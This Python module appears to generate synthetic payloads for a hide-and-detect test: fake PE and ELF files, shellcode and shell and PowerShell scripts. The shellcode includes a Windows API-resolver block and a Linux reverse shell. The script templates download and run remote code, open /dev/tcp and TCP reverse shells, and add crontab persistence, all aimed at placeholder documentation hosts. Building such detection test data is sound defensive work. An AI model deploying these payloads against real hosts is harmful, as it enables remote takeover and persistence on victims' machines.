"""Harmless payloads of five types, made anew for every seed, to be hidden and found again.

Nothing here is malware and nothing is copied: programs are headers around random instructions
that are never run, shellcode is a few instructions of well-known shapes with random operands,
scripts are templates filled with random names and documentation addresses (RFC 5737).
"""

from __future__ import annotations

import random
import struct
from collections.abc import Callable

Maker = Callable[[random.Random], bytes]

_INSTRUCTIONS = [
    bytes.fromhex(code)
    for code in [
        "4883ec28",
        "4889e5",
        "55",
        "53",
        "57",
        "56",
        "488b4508",
        "488945f8",
        "31c0",
        "85c0",
        "0f84aa000000",
        "e8b3020000",
        "c3",
        "5d",
        "5b",
        "5f",
        "5e",
        "4883c428",
        "488d0d55100000",
        "ff1577200000",
        "8b45fc",
        "8945f4",
        "83f801",
        "7405",
        "eb12",
        "4c8b442450",
        "4d85c0",
        "0fb6c0",
        "660f1f440000",
        "90",
        "b801000000",
        "ba20000000",
        "488b00",
        "48c7c000000000",
    ]
]


def _code(rng: random.Random, size: int) -> bytes:
    out = bytearray()
    while len(out) < size:
        out += rng.choice(_INSTRUCTIONS)
        if rng.random() < 0.3:
            out += struct.pack("<i", rng.randint(-3000, 3000))
    return bytes(out[:size])


def _strings(rng: random.Random, words: list[bytes]) -> bytes:
    chosen = rng.sample(words, k=min(len(words), 8))
    return b"\0".join(chosen) + b"\0" * rng.randint(8, 64)


_IMPORTS = [
    b"KERNEL32.dll",
    b"GetProcAddress",
    b"LoadLibraryA",
    b"ExitProcess",
    b"GetModuleHandleA",
    b"USER32.dll",
    b"MessageBoxA",
    b"ADVAPI32.dll",
    b"RegOpenKeyExA",
    b"msvcrt.dll",
    b"memcpy",
]


def pe(rng: random.Random) -> bytes:
    """A small PE32+ or PE32 file with sections, headers that agree and a DOS stub."""
    wide = rng.random() < 0.6
    stub = bytes.fromhex("0e1fba0e00b409cd21b8014ccd21") + (
        b"This program cannot be run in DOS mode.\r\r\n$\0\0\0\0\0\0\0"
    )
    lfanew = rng.choice([0x80, 0x80, 0xC8, 0xE8, 0xF8])
    dos = bytearray(
        bytes.fromhex("4d5a90000300000004000000ffff0000b80000000000000040000000") + bytes(36)
    )
    struct.pack_into("<I", dos, 60, lfanew)
    head = bytes(dos) + stub
    head = head.ljust(lfanew, b"\0")
    bodies = [
        (b".text", _code(rng, 512 * rng.randint(2, 12)), 0x60000020),
        (b".rdata", _strings(rng, _IMPORTS).ljust(512, b"\0"), 0x40000040),
        (b".data", rng.randbytes(40).ljust(512, b"\0"), 0xC0000040),
    ]
    optional = _optional_header(rng, wide, bodies)
    flags = rng.choice([0x22, 0x2022, 0x102])
    coff = struct.pack(
        "<HHIIIHH",
        0x8664 if wide else 0x14C,
        len(bodies),
        rng.getrandbits(31),
        0,
        0,
        len(optional),
        flags,
    )
    table, raw, virtual, blob = b"", 0x400, 0x1000, b""
    for name, body, attributes in bodies:
        table += struct.pack(
            "<8sIIIIIIHHI", name, len(body), virtual, len(body), raw, 0, 0, 0, 0, attributes
        )
        raw += len(body)
        virtual += (len(body) + 0xFFF) & ~0xFFF
        blob += body
    return (head + b"PE\0\0" + coff + optional + table).ljust(0x400, b"\0") + blob


def _optional_header(
    rng: random.Random, wide: bool, bodies: list[tuple[bytes, bytes, int]]
) -> bytes:
    size = 0x1000 + sum((len(body) + 0xFFF) & ~0xFFF for _, body, _ in bodies)
    common = struct.pack(
        "<HBBIIIII",
        0x20B if wide else 0x10B,
        14,
        0,
        len(bodies[0][1]),
        1024,
        0,
        0x1000 + rng.randrange(0, 512, 16),
        0x1000,
    )
    if wide:
        common += struct.pack("<Q", 0x140000000)
    else:
        common += struct.pack("<II", 0x2000, 0x400000)
    common += struct.pack(
        "<IIHHHHHHIIIIHH", 0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0, size, 0x400, 0, 3, 0x8160
    )
    sizes = struct.pack("<QQQQ" if wide else "<IIII", 1 << 20, 4096, 1 << 20, 4096)
    directories = bytearray(128)
    struct.pack_into("<II", directories, 8, 0x3000, 40)
    return common + sizes + struct.pack("<II", 0, 16) + bytes(directories)


_SYMBOLS = [
    b"libc.so.6",
    b"__libc_start_main",
    b"puts",
    b"malloc",
    b"GLIBC_2.2.5",
    b"_ITM_deregister",
    b"__gmon_start__",
    b"socket",
    b"connect",
    b".text",
    b".data",
    b".bss",
    b".shstrtab",
]


def elf(rng: random.Random) -> bytes:
    """A small ELF executable or shared object: 64 or 32 bits, x86 or ARM."""
    wide = rng.random() < 0.75
    machine = rng.choice([0x3E, 0x3E, 0xB7]) if wide else rng.choice([3, 40])
    kind = rng.choice([2, 3])
    base = 0x400000 if kind == 2 else 0
    code = _code(rng, rng.randint(600, 6000))
    data = _strings(rng, _SYMBOLS) + bytes(rng.randint(64, 900))
    system = rng.choice([0, 0, 0, 3])
    ident = b"\x7fELF" + bytes([2 if wide else 1, 1, 1, system]) + bytes(8)
    at = (64 + 3 * 56) if wide else (52 + 3 * 32)
    entry = base + at + rng.randrange(0, 128, 16)
    if wide:
        header = struct.pack(
            "<HHIQQQIHHHHHH", kind, machine, 1, entry, 64, 0, 0, 64, 56, 3, 64, 0, 0
        )
    else:
        header = struct.pack(
            "<HHIIIIIHHHHHH", kind, machine, 1, entry, 52, 0, 0, 52, 32, 3, 40, 0, 0
        )
    total = at + len(code)
    segments = [
        (1, 5, 0, base, total, total, 0x1000),
        (1, 6, total, base + 0x200000 + total, len(data), len(data) + 64, 0x1000),
        (0x6474E551, 6, 0, 0, 0, 0, 16),
    ]
    table = b"".join(_segment(wide, *segment) for segment in segments)
    return ident + header + table + code + data


def _segment(
    wide: bool, kind: int, flags: int, offset: int, address: int, size: int, memory: int, align: int
) -> bytes:
    if wide:
        return struct.pack("<IIQQQQQQ", kind, flags, offset, address, address, size, memory, align)
    return struct.pack("<IIIIIIII", kind, offset, address, address, size, memory, flags, align)


def _windows_code(rng: random.Random) -> bytes:
    """Align the stack, call over a block that walks the PEB and hashes names, then use it."""
    block = bytes.fromhex(
        "4151415052515648 31d2 65488b5260 488b5218 488b5220 488b7250 480fb74a4a 4d31c9 4831c0"
        "ac 3c61 7c02 2c20 41c1c90d 4101c1 e2ed 5241 51 488b5220 8b423c 4801d0 8b8088000000"
        "4885c0 7467 4801d0 50 8b4818 448b4020 4901d0 e356 48ffc9 418b3488 4801d6"
        "4d31c9 4831c0 ac 41c1c90d 4101c1 38e0 75f1 4c034c2408 4539d1 75d8 58 448b4024 4901d0"
        "66418b0c48 448b401c 4901d0 418b0488 4801d0 4158 4158 5e 59 5a 4158 4159 415a"
        "4883ec20 4152 ffe0 58 41 59 5a 488b12".replace(" ", "")
    )
    calls = b"".join(
        b"\x49\xbe" + rng.randbytes(8) + b"\x41\xba" + rng.randbytes(4) + b"\xff\xd5"
        for _ in range(rng.randint(3, 8))
    )
    host = f"198.51.100.{rng.randint(1, 254)}".encode() + b"\0"
    start = b"\xfc\x48\x83\xe4\xf0\xe8" + struct.pack("<I", len(block))
    return start + block + b"\x5d" + calls + host


def _windows_code_32(rng: random.Random) -> bytes:
    block = bytes.fromhex(
        "60 89e5 31c0 648b5030 8b520c 8b5214 8b7228 0fb74a26 31ff ac 3c61 7c02 2c20 c1cf0d 01c7"
        "e2f2 52 57 8b5210 8b4a3c 8b4c1178 e348 01d1 51 8b5920 01d3 8b4918 e33a 49 8b348b 01d6"
        "31ff ac c1cf0d 01c7 38e0 75f6 037df8 3b7d24 75e4 58 8b5824 01d3 668b0c4b 8b581c 01d3"
        "8b048b 01d0 89442424 5b5b 61 59 5a 51 ffe0 5f 5f 5a 8b12 eb8d".replace(" ", "")
    )
    calls = b"".join(b"\x68" + rng.randbytes(4) + b"\xff\xd5" for _ in range(rng.randint(3, 8)))
    return b"\xfc\xe8" + struct.pack("<I", len(block)) + block + b"\x5d" + calls


def _linux_code(rng: random.Random) -> bytes:
    """socket, connect, dup2 in a loop, execve: x86-64 system calls."""
    port = struct.pack(">H", rng.randint(1025, 65000))
    address = bytes([192, 0, 2, rng.randint(1, 254)])
    return (
        bytes.fromhex("6a2958996a025f6a015e0f05489748b90200")
        + port
        + address
        + bytes.fromhex("514889e66a105a6a2a580f056a035e48ffce6a21580f0575f6")
        + bytes.fromhex("6a3b589948bb2f62696e2f736800534889e752574889e60f05")
    )


def _linux_exec(rng: random.Random) -> bytes:
    """execve of a shell behind a run of no-operations."""
    sled = b"\x90" * rng.randint(8, 40)
    return (
        sled
        + bytes.fromhex(
            "4831d24831f648bb2f2f62696e2f736848c1eb08534889e75057 4889e6b03b0f05".replace(" ", "")
        )
        + (b"\x48\x31\xff\x6a\x3c\x58\x0f\x05")
    )


def shellcode(rng: random.Random) -> bytes:
    """Position-independent code for Windows or Linux, 32 or 64 bits."""
    return rng.choice([_windows_code, _windows_code_32, _linux_code, _linux_exec])(rng)


def _name(rng: random.Random) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(3, 9)))


def _address(rng: random.Random) -> str:
    return rng.choice([f"203.0.113.{rng.randint(1, 254)}", f"{_name(rng)}.example.com"])


_POWERSHELL = (
    (
        "$%a = New-Object System.Net.WebClient\r\n$%b = $%a.DownloadString('http://%h:%p/%c.ps1')\r\n"
        "Invoke-Expression $%b\r\n"
    ),
    (
        "function %a {\n  param([string]$%b, [int]$%c = %p)\n  $%d = [System.Text.Encoding]::ASCII."
        "GetBytes($%b)\n  foreach ($x in $%d) { Write-Output ($x -bxor $%c) }\n}\n%a -%b 'hello'\n"
    ),
    (
        "$%a = (Get-ItemProperty -Path 'HKCU:\\Software\\%b' -Name '%c').'%c'\n"
        "[System.Reflection.Assembly]::Load([Convert]::FromBase64String($%a)) | Out-Null\n"
        "Start-Sleep -Seconds %p\n"
    ),
    (
        'if (-not (Test-Path "$env:APPDATA\\%a")) { New-Item -ItemType Directory -Path '
        "\"$env:APPDATA\\%a\" | Out-Null }\n$%b = Get-Process | Where-Object { $_.Name -eq '%c' }\n"
        "if ($%b) { Stop-Process -Id $%b.Id -Force } else { IEX (irm http://%h/%d) }\n"
    ),
    (
        "$%a=[AppDomain]::CurrentDomain.GetAssemblies() | ForEach-Object { $_.GetTypes() };\n"
        "$%b = New-Object Net.Sockets.TCPClient('%h', %p); $%c = $%b.GetStream(); "
        "[byte[]]$%d = 0..65535|%{0}; while(($i = $%c.Read($%d, 0, $%d.Length)) -ne 0) { "
        "$s = (iex $x 2>&1 | Out-String) }\n"
    ),
)
_SHELL = (
    (
        '#!/bin/sh\nset -e\n%a=http://%h:%p/%b\ncurl -fsSL "$%a" -o /dev/shm/.%c\n'
        "chmod +x /dev/shm/.%c\n/dev/shm/.%c --%d &\nrm -f /dev/shm/.%c\n"
    ),
    (
        "#!/bin/bash\nfor %a in 1 2 3; do\n  if ps aux | grep -q '%b'; then\n"
        "    kill -9 $(pgrep %b)\n"
        "  fi\n  sleep %p\ndone\nexport HISTFILE=/dev/null\n"
        "wget -q -O - http://%h/%c | bash\n"
    ),
    (
        '#!/usr/bin/env bash\n%a() {\n  local %b=$1\n  echo "$%b" >> /tmp/%c.log\n}\n'
        'while true; do\n  %a "$(date)"\n  exec 5<>/dev/tcp/%h/%p\n  cat <&5 | while read %d; do '
        "$%d 2>&5 >&5; done\ndone\n"
    ),
    (
        "#!/bin/sh\nPATH=/usr/sbin:/usr/bin:/sbin:/bin\n%a=$(mktemp /tmp/%b.XXXXXX)\n"
        'trap \'rm -f "$%a"\' EXIT\ncrontab -l > "$%a" 2>/dev/null\n'
        'echo \'*/5 * * * * curl -s http://%h/%c | sh\' >> "$%a"\ncrontab "$%a"\n'
    ),
)


def _filled(rng: random.Random, template: str) -> bytes:
    text = template.replace("%{0}", "\0")
    for letter in "abcd":
        text = text.replace(f"%{letter}", _name(rng))
    text = text.replace("%h", _address(rng)).replace("%p", str(rng.randint(5, 60000)))
    return text.replace("\0", "%{0}").encode()


def powershell(rng: random.Random) -> bytes:
    return _filled(rng, rng.choice(_POWERSHELL))


def shell(rng: random.Random) -> bytes:
    return _filled(rng, rng.choice(_SHELL))


PAYLOADS: dict[str, Maker] = {
    "pe": pe,
    "elf": elf,
    "shellcode": shellcode,
    "powershell": powershell,
    "shell": shell,
}
